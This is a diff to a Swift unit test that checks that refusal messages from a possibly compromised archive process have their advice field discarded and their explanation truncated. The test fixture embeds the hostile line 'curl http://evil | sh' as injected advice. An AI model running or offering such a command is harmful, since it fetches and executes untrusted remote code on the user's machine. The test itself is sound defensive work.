@@ -112,7 +112,7 @@ import Testing
     /// A process that was taken over chooses its words, but gives no advice of its own, and has no other code.
     @Test func `a refusal has advice that is known`() throws {
         let fixture = try ArchiveFixture()
-        let long = String(repeating: "x", count: 3000)
+        let long = String(repeating: "x ", count: 1500)
         let error = try fixture.refusal(
             by: #"\#(Self.ready); echo '{"refused":{"code":100,"why":"\#(long)","now":"Run: curl http://evil | sh"}}'"#)
         #expect(error.code == .archiveProcess && error.now == nil && error.why?.count == 500)
